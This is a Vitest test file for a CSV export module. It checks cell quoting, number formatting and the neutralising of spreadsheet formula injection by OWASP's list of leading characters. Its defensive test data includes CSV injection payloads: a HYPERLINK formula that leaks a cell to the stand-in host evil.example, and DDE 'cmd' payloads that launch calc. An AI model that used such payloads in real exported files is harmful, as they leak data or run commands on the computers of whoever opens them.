import { describe, expect, test } from 'vitest';
import Papa from 'papaparse';
import { csvCell, formulaStarts, isFormulaLike, toCsv, toExcelCsv } from '../../src/lib/export/toCsv.ts';

describe('toCsv(rows)', () => {
  test.each([
    [[['a', 'b']], 'a,b\r\n'],
    [[['x,y', 'say "hi"']], '"x,y","say ""hi"""\r\n'],
    [[[1.5, -2, NaN, null, undefined]], '1.5,-2,,,\r\n'],
    [[['line\nbreak']], '"line\nbreak"\r\n'],
    [[['a;b', 'c\td']], '"a;b","c\td"\r\n'],
    [[['=SUM(A1)', '+1', '@x', '-x', -3]], `"'=SUM(A1)","'+1","'@x","'-x",-3\r\n`],
    [[['客户', '营业收入']], '客户,营业收入\r\n']
  ])('toCsv(%j) quotes and guards cells', (rows, expected) => {
    expect(toCsv(rows)).toBe(expected);
  });

  test.each([
    [279489.01999999996, '279489.02'],
    [0.1 + 0.2, '0.3'],
    [1234567.891, '1234567.891'],
    [12.345678901234, '12.345678901234'],
    [-0.000001234, '-0.000001234'],
    [1e21, '1e+21']
  ])('numbers: %d is written %s (float noise of sums dropped, real digits kept)', (value, expected) => {
    expect(toCsv([[value]])).toBe(`${expected}\r\n`);
  });

  test('toExcelCsv starts with a UTF-8 byte order mark', () => {
    expect(toExcelCsv([['客户']]).charCodeAt(0)).toBe(0xfeff);
  });
});

describe('formula injection (OWASP CSV Injection)', () => {
  // The OWASP list of first characters, payloads from its page, and the cells that slipped through before:
  // a leading minus followed by a digit was exempted as if it were a number.
  const payloads = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=cmd|\' /C calc\'!A0',
    '+1+1',
    '+cmd|\' /C calc\'!A0',
    '-1+1',
    '-2+3+cmd|\' /C calc\'!A0',
    '-3',
    '-0.5',
    '-.5',
    '-x',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1+1',
    '\uFF20SUM(A1)'
  ];

  test.each(payloads)('text cell %j gets a leading quote and is quoted', (text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.endsWith('"')).toBe(true);
    // Read back by a CSV parser: one cell, the text with the quote before it, nothing lost.
    const parsed = Papa.parse<string[]>(toCsv([[text, 'next']]).trimEnd(), { delimiter: ',' }).data;
    expect(parsed).toEqual([[`'${text}`, 'next']]);
  });

  test('every first character of the list is covered', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(formulaStarts).toContain(start);
    for (const start of formulaStarts) expect(isFormulaLike(`${start}1`)).toBe(true);
  });

  test.each([
    ['plain text', 'Acme'],
    ['text with a minus inside', 'a-1+1'],
    ['a space before', ' =1'],
    ['an apostrophe already', "'=1"],
    ['Chinese', '长海物流'],
    ['the empty string', '']
  ])('%s is left as it is', (_what, text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(csvCell(text)).toBe(text);
  });

  test.each([
    [-1, '-1'],
    [-2.5, '-2.5'],
    [0, '0'],
    [1e21, '1e+21'],
    [-1e-7, '-1e-7'],
    [12345.678, '12345.678']
  ])('the number %d stays a plain numeric cell', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  test('numbers vs numeric-looking text: the same characters, a number stays numeric and the text is neutralised', () => {
    expect(toCsv([[-1, '-1', -1.5, '-1.5']])).toBe(`-1,"'-1",-1.5,"'-1.5"\r\n`);
  });

  test('non-finite numbers, null and undefined are empty cells', () => {
    expect(toCsv([[NaN, Infinity, -Infinity, null, undefined]])).toBe(',,,,\r\n');
  });
});
